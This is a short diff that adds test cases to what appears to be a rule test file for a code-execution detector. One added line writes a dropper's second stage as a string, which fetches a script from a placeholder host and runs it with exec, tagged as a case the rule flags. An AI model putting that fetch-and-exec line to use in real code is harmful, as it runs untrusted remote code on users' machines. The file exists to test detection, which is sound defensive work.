@@ -141,3 +141,12 @@ class PlainRecord:
 
     # ok: AIR-EXEC-007
     __add__ = print
+
+# Code held in a string is analysed as code: a dropper's second stage.
+import tempfile  # noqa: E402
+
+stage = tempfile.NamedTemporaryFile(delete=False, suffix=".py")
+# ruleid: AIR-EXEC-003
+stage.write(b"from urllib.request import urlopen;exec(urlopen('https://example.invalid/p').read())")
+# ok: AIR-EXEC-003
+stage.write(b"print('import this is only text with exec( in it')")
